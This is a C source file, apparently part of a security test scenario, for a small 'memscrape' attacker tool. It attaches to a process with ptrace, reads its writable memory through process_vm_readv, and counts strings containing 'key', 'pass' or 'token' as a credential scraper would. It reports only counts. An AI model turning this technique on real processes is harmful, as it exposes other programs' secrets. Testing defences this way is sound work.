// SPDX-License-Identifier: GPL-2.0
/*
 * memscrape PID - attacker tool of the ptrace-debugger scenario: attaches
 * to a process like a debugger (PTRACE_ATTACH), then reads its writable
 * anonymous memory with process_vm_readv and counts strings that look like
 * secrets ("key", "pass", "token"), the way credential scrapers do.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>

int main(int argc, char **argv)
{
	static char buf[1 << 16];
	unsigned long lo, hi, total = 0, hits = 0;
	char line[512], perm[8];
	pid_t pid;
	FILE *m;
	int st, regions = 0;

	if (argc != 2)
		return 2;
	pid = atoi(argv[1]);
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0)
		waitpid(pid, &st, __WALL);
	else
		perror("ptrace attach");
	snprintf(line, sizeof(line), "/proc/%d/maps", pid);
	m = fopen(line, "r");
	if (!m) {
		perror(line);
		return 1;
	}
	while (fgets(line, sizeof(line), m) && regions < 64) {
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perm) != 3 || perm[1] != 'w')
			continue;
		regions++;
		for (unsigned long a = lo; a < hi && a - lo < (4ul << 20); a += sizeof(buf)) {
			struct iovec l = { buf, sizeof(buf) };
			struct iovec r = { (void *)a, sizeof(buf) };
			ssize_t n = process_vm_readv(pid, &l, 1, &r, 1, 0);

			if (n <= 0)
				break;
			total += n;
			for (ssize_t i = 0; i + 4 < n; i++)
				if (!memcmp(buf + i, "key", 3) || !memcmp(buf + i, "pass", 4) ||
				    !memcmp(buf + i, "token", 5))
					hits++;
		}
	}
	fclose(m);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	printf("regions %d bytes %lu candidate strings %lu\n", regions, total, hits);
	return 0;
}
